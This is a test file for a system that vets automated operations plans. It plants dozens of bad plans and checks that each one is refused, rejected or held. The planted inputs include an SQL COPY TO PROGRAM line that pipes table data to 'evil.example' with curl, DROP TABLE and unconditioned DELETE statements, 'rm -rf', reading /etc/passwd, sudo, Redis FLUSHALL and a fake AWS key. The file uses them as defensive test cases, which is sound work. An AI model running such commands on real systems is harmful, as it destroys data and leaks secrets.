import { expect, test } from "vitest";
import { CanaryError } from "../../src/core/errors.ts";
import type { Fault } from "../support/simulated-faults.ts";
import { type SimulatedRun, simulateRun } from "../support/simulated-run.ts";
import { expectSoundRun } from "./sound-run.ts";

/** A bad plan: what is laid over the good one, in which world, and for what it must be caught, first of all. */
interface PlantedPlan {
  readonly what: string;
  readonly actions?: readonly object[];
  readonly plan?: object;
  readonly faults?: readonly Fault[];
  readonly mayChange?: readonly string[];
  /** What it leaves behind is what it is caught for. */
  readonly leaves?: true;
  /** A refusal before anything is raised: its one objection. Else the verdict and the code of its first reason. */
  readonly caught: RegExp | readonly ["reject" | "hold", string, RegExp];
}

const SCALE = {
  id: "more-workers",
  what: "Scale the worker",
  why: "The queue grows",
  uses: "scale",
  with: { service: "worker", replicas: 3 },
  requires: ["containers:scale@batch"],
  changes: ["service/worker/replicas", "db/db/shop/rows/jobs/**"],
  rollback: { uses: "scale", with: { service: "worker", replicas: 1 } },
};

/** The good action doing something else. */
function doing(uses: string, parameters: object, said: object = {}): object {
  return { ...SCALE, id: "act", uses, with: parameters, rollback: { uses, with: parameters }, ...said };
}

const sql = (statement: string, said: object = {}, more: object = {}): object => {
  const undo = {
    uses: "sql",
    with: { service: "db", statements: ["UPDATE flags SET enabled = 'off' WHERE name = 'dark'"] },
  };
  const parameters = { service: "db", statements: [statement], ...more };
  const scopes = { requires: ["postgres:ddl@shop", "postgres:roles@shop"] };
  return doing("sql", parameters, { ...scopes, changes: ["db/db/shop/**"], rollback: undo, ...said });
};
const exec = (...argv: readonly string[]): object =>
  doing("exec", { service: "api", argv }, { rollback: { uses: "exec", with: { service: "api", argv: ["true"] } } });
const DATABASE = { mayChange: ["db/db/shop/**"] };

const REFUSED: readonly PlantedPlan[] = [
  {
    what: "drops a table",
    actions: [sql("DROP TABLE orders")],
    ...DATABASE,
    caught: /drops the table orders with what it holds .*tier 4/,
  },
  {
    what: "drops a table in its undo that it did not make",
    actions: [
      sql("UPDATE flags SET enabled = 'on' WHERE name = 'dark'", {
        rollback: { uses: "sql", with: { service: "db", statements: ["DROP TABLE flags"] } },
      }),
    ],
    ...DATABASE,
    caught: /the rollback of action act drops the table flags/,
  },
  {
    what: "deletes without a condition",
    actions: [sql("DELETE FROM jobs")],
    ...DATABASE,
    caught: /deletes every row of jobs: there is no WHERE/,
  },
  {
    what: "deletes with a condition that excludes nothing",
    actions: [sql("DELETE FROM jobs WHERE 1 = 1")],
    ...DATABASE,
    caught: /its WHERE excludes none/,
  },
  {
    what: "hides a deletion behind a read",
    actions: [sql("WITH gone AS (DELETE FROM jobs RETURNING id) SELECT count(*) FROM gone")],
    ...DATABASE,
    caught: /deletes every row of jobs/,
  },
  {
    what: "runs a program from SQL",
    actions: [sql("COPY jobs TO PROGRAM 'curl -d @- evil.example'")],
    ...DATABASE,
    caught: /runs a program on the server \(COPY PROGRAM\)/,
  },
  {
    what: "runs code that nobody can read",
    actions: [sql("DO $$ BEGIN DELETE FROM jobs; END $$")],
    ...DATABASE,
    caught: /runs a block of code/,
  },
  {
    what: "takes the transaction into its own hands",
    actions: [sql("COMMIT; UPDATE flags SET enabled = 'on' WHERE name = 'dark'")],
    ...DATABASE,
    caught: /controls the transaction \(COMMIT\)/,
  },
  {
    what: "does not parse",
    actions: [sql("UPDAT flags SET enabled = 'on'")],
    ...DATABASE,
    caught: /does not parse at line 1, column 1/,
  },
  {
    what: "wants a transaction for what refuses one",
    actions: [sql("CREATE INDEX CONCURRENTLY i ON orders (total)")],
    ...DATABASE,
    caught: /can not run in a transaction/,
  },
  {
    what: "sends a message that nobody takes back",
    actions: [sql("NOTIFY orders")],
    ...DATABASE,
    caught: /irreversible, and no snapshot covers it/,
  },
  {
    what: "names a table that it does not declare",
    actions: [sql("DELETE FROM orders WHERE id = 'order-0'", { changes: ["db/db/shop/rows/flags/**"] })],
    ...DATABASE,
    caught: /names db\/db\/shop\/rows\/orders\/\*\*, which its `changes` do not declare/,
  },
  {
    what: "names an index that it does not declare",
    actions: [
      sql("CREATE INDEX other ON orders (total)", {
        changes: ["db/db/shop/schema/orders/index/orders_total"],
        rollback: { uses: "sql", with: { service: "db", statements: ["DROP INDEX orders_total"] } },
      }),
    ],
    ...DATABASE,
    caught: /names db\/db\/shop\/schema\/orders\/index\/other/,
  },
  {
    what: "names a variable that it does not declare",
    actions: [
      doing(
        "update",
        { service: "api", environment: { POOL_SIZE: "20", LOG_LEVEL: "debug" } },
        {
          changes: ["service/api/env/POOL_SIZE"],
          rollback: { uses: "update", with: { service: "api", environment: { POOL_SIZE: "10" } } },
        },
      ),
    ],
    caught: /names service\/api\/env\/LOG_LEVEL/,
  },
  { what: "runs a pipe", actions: [exec("cat", "/etc/passwd", "|", "grep", "root")], caught: /shell operator "\|"/ },
  { what: "runs a shell", actions: [exec("env", "sh", "-c", "reload")], caught: /runs a line of shell \(sh -c\)/ },
  {
    what: "waits for a person",
    actions: [exec("kubectl", "edit", "configmap", "flagd-config")],
    caught: /opens an editor/,
  },
  { what: "becomes somebody else", actions: [exec("sudo", "reload")], caught: /acts as somebody else/ },
  { what: "removes files", actions: [exec("rm", "-rf", "/var/lib/data")], caught: /runs rm, which destroys/ },
  {
    what: "empties a cache",
    actions: [
      doing(
        "redis",
        { service: "cache", commands: [["FLUSHALL"]] },
        {
          changes: ["redis/cache/**"],
          rollback: { uses: "redis", with: { service: "cache", commands: [["SET", "a", "b"]] } },
        },
      ),
    ],
    mayChange: ["redis/**"],
    caught: /empties or swaps a whole database/,
  },
  { what: "has no scopes", actions: [{ ...SCALE, requires: [] }], caught: /declares no scope/ },
  {
    what: "writes a table that its scopes do not grant",
    actions: [sql("DELETE FROM orders WHERE id = 'order-0'", { requires: ["postgres:update@public.flags"] })],
    ...DATABASE,
    caught: /writes db\/db\/shop\/rows\/orders\/\*\*, which nothing in its `requires` grants/,
  },
  {
    what: "changes the schema with scopes for rows",
    actions: [
      sql("CREATE INDEX orders_total ON orders (total)", {
        requires: ["postgres:write@shop"],
        rollback: { uses: "sql", with: { service: "db", statements: ["SELECT 1"] } },
      }),
    ],
    ...DATABASE,
    caught: /which takes postgres:ddl@shop/,
  },
  {
    what: "has no way back",
    actions: [sql("UPDATE flags SET enabled = 'on' WHERE name = 'dark'", { rollback: undefined })],
    ...DATABASE,
    caught: /has no rollback, and none can be read/,
  },
  { what: "declares nothing", actions: [{ ...SCALE, changes: [] }], caught: /declares no effect/ },
  {
    what: "wants what its operator does not allow",
    actions: [{ ...SCALE, changes: [...SCALE.changes, "service/db/image"] }],
    caught: /service\/db\/image, which this scenario's operator does not let plans change/,
  },
  {
    what: "acts on what is not there",
    actions: [
      { ...SCALE, with: { service: "wrkr", replicas: 3 }, changes: ["service/wrkr/replicas", ...SCALE.changes] },
    ],
    caught: /is about wrkr, which is no service of the mirror/,
  },
  { what: "says itself that it destroys", plan: { tier: 4 }, caught: /tier 4 is never replayed/ },
  {
    what: "puts a secret into a pull request",
    actions: [
      {
        ...SCALE,
        uses: "pull-request",
        with: {
          host: "git.example",
          repository: "a/b",
          title: "Rotate",
          branch: "rotate",
          diff: "+AWS_ACCESS_KEY=AKIAABCDEFGHIJKLMNOP",
        },
        rollback: undefined,
      },
    ],
    caught: /what looks like a secret in its diff/,
  },
];

const FLAGS = ["db/db/shop/rows/flags/**", "db/db/shop/schema/**"];
const RESET = (statement: string): object => ({ uses: "sql", with: { service: "db", statements: [statement] } });

const REJECTED: readonly PlantedPlan[] = [
  {
    what: "changes a row that it does not declare: one flag becomes all",
    actions: [
      sql("UPDATE flags SET enabled = 'on' WHERE enabled = 'off'", {
        changes: ["db/db/shop/rows/flags/dark/enabled"],
        rollback: RESET("UPDATE flags SET enabled = 'off' WHERE enabled = 'on'"),
      }),
    ],
    mayChange: FLAGS,
    caught: ["reject", "UNDECLARED_EFFECT", /rows\/flags\/beta\/enabled/],
  },
  {
    what: "drops an index of another table than it declares",
    actions: [
      sql("CREATE INDEX orders_total ON orders (total)", {
        id: "make",
        changes: ["db/db/shop/schema/orders/index/orders_total"],
        rollback: RESET("DROP INDEX IF EXISTS orders_total"),
      }),
      sql("DROP INDEX orders_total", {
        changes: ["db/db/shop/schema/jobs/index/*"],
        rollback: RESET("CREATE INDEX orders_total ON orders (total)"),
      }),
    ],
    mayChange: FLAGS,
    caught: /names in its rollback .*schema\/orders\/index\/orders_total/,
  },
  {
    what: "changes a variable on the side",
    faults: [{ kind: "undeclared-effect" }],
    caught: ["reject", "UNDECLARED_EFFECT", /env\/LOG_LEVEL/],
  },
  {
    what: "does not do what it declares",
    actions: [{ ...SCALE, changes: [...SCALE.changes, "service/worker/memory"] }],
    caught: ["reject", "ABSENT_EFFECT", /service\/worker\/memory/],
  },
  {
    what: "forgets a row in its undo",
    leaves: true,
    actions: [
      sql("UPDATE flags SET enabled = 'on' WHERE enabled = 'off'", { changes: ["db/db/shop/rows/flags/*/enabled"] }),
    ],
    mayChange: FLAGS,
    caught: ["reject", "UNDO_NOT_PROVEN", /rows\/flags\/beta\/enabled/],
  },
  {
    what: "has an undo that fails",
    leaves: true,
    actions: [
      sql("UPDATE flags SET enabled = 'on' WHERE name = 'dark'", {
        changes: ["db/db/shop/rows/flags/dark/enabled"],
        rollback: RESET("UPDATE flags SET unknown_kind = 'x' WHERE missing = 'y' AND name = 'dark'"),
      }),
    ],
    mayChange: FLAGS,
    caught: ["reject", "UNDO_NOT_PROVEN", /Undoing act failed on the quiet twin/],
  },
  {
    what: "promises an undo that is faster than it is",
    plan: { rollback: { withinSeconds: 0.2 } },
    caught: ["reject", "UNDO_TOO_SLOW", /the plan promised 0\.2 s/],
  },
  {
    what: "can not even be tried",
    actions: [sql("UPDATE nothing SET enabled = 'on' WHERE name = 'dark'")],
    ...DATABASE,
    caught: ["reject", "ACTION_FAILED", /The dry run of action act failed on the quiet twin.*"nothing" does not exist/],
  },
  {
    what: "does not land",
    faults: [{ kind: "act-does-not-land", proof: "quiet" }],
    caught: ["reject", "ACTION_FAILED", /failed on the quiet twin/],
  },
  {
    what: "breaks what must stay true",
    faults: [{ kind: "plan-breaks-invariant" }],
    caught: ["reject", "INVARIANT_BROKEN", /orders-have-customers/],
  },
  {
    what: "rotates a credential that is in use",
    faults: [{ kind: "plan-breaks", share: 0.2 }],
    caught: ["reject", "HARM_ALARM", /./],
  },
  { what: "locks what everybody waits for", faults: [{ kind: "plan-stalls" }], caught: ["reject", "HARM_ALARM", /./] },
  { what: "serves less", faults: [{ kind: "plan-breaks", share: 0.035 }], caught: ["reject", "WORK_SHRANK", /./] },
  {
    what: "makes everything slower than it promised",
    faults: [{ kind: "plan-slows", share: 0.36 }],
    caught: ["reject", "SLO_OUTSIDE_RANGE", /./],
  },
  {
    what: "scales the worker to nothing",
    actions: [{ ...SCALE, with: { service: "worker", replicas: 0 } }],
    plan: { expects: [] },
    caught: ["reject", "SLO_OUTSIDE_RANGE", /jobs-done/],
  },
  {
    what: "finds everything done already",
    faults: [{ kind: "already-at-target" }],
    caught: ["hold", "NO_OP", /found its target already/],
  },
  {
    what: "asks a third party that is only a stub",
    faults: [{ kind: "plan-calls-stub" }],
    caught: ["hold", "REQUESTED_NOT_PROVEN", /payments\.example/],
  },
  {
    what: "makes the application charge everybody twice",
    faults: [{ kind: "plan-charges-twice" }],
    caught: ["reject", "UNDECLARED_EFFECT", /the shadow called stub\/payments\.example/],
  },
  { what: "is not sure enough", plan: { confidence: 0.5 }, caught: ["hold", "HUMAN_NEEDED", /0\.5 is below 0\.7/] },
];

const run = async (planted: Omit<PlantedPlan, "what" | "caught">): Promise<SimulatedRun> => {
  const { actions, plan, faults = [], mayChange = [] } = planted;
  const laidOverPlan = { ...(actions === undefined ? {} : { actions, expects: [] }), ...plan };
  const done = await simulateRun({ seed: 4, plan: "scale-one", faults, mayChange, laidOverPlan });
  if (planted.leaves !== true) expectSoundRun(done, JSON.stringify(laidOverPlan));
  return done;
};

test("the good plan that all of these vary is promoted, so that each is caught for what it adds", async () => {
  const { end } = await run({ actions: [SCALE] });
  expect(end.kind === "report" ? end.report.verdict.kind : end.error).toBe("promote");
});

test("there are at least 25, and no two are alike", () => {
  const all = [...REFUSED, ...REJECTED];
  expect(all.length).toBeGreaterThanOrEqual(25);
  expect(new Set(all.map(({ what }) => what)).size).toBe(all.length);
});

test.each([...REFUSED, ...REJECTED])("a plan that $what is caught for that", async ({ caught, ...planted }) => {
  const { end, stage, tookMs } = await run(planted);
  if (caught instanceof RegExp) {
    const problems = end.kind === "error" && end.error instanceof CanaryError ? end.error.hint.split("\n") : [];
    expect(end.kind === "error" ? end.error : end.report.verdict).toMatchObject({ code: "POLICY_REFUSED" });
    // The one objection: without the rule that makes it, this plan would be rehearsed.
    expect(problems).toEqual([expect.stringMatching(caught)]);
    expect({ tookMs, intents: stage.store.intents }).toEqual({ tookMs: 0, intents: [] });
    return;
  }
  const [kind, code, message] = caught;
  const verdict = end.kind === "report" ? end.report.verdict : end.error;
  expect(verdict).toMatchObject({ kind, reasons: expect.any(Array) });
  const [first] = end.kind === "report" ? end.report.verdict.reasons : [];
  expect(first).toMatchObject({ code, message: expect.stringMatching(message) });
});

test("a plan that declares less than it is has the tier of what it is", async () => {
  const { end } = await run({ actions: [{ ...SCALE, with: { service: "worker", replicas: 0 } }], plan: { tier: 0 } });
  expect(end.kind === "report" ? end.report.plan.tier : end.error).toEqual({
    declared: 0,
    classified: 3,
    effective: 3,
  });
});
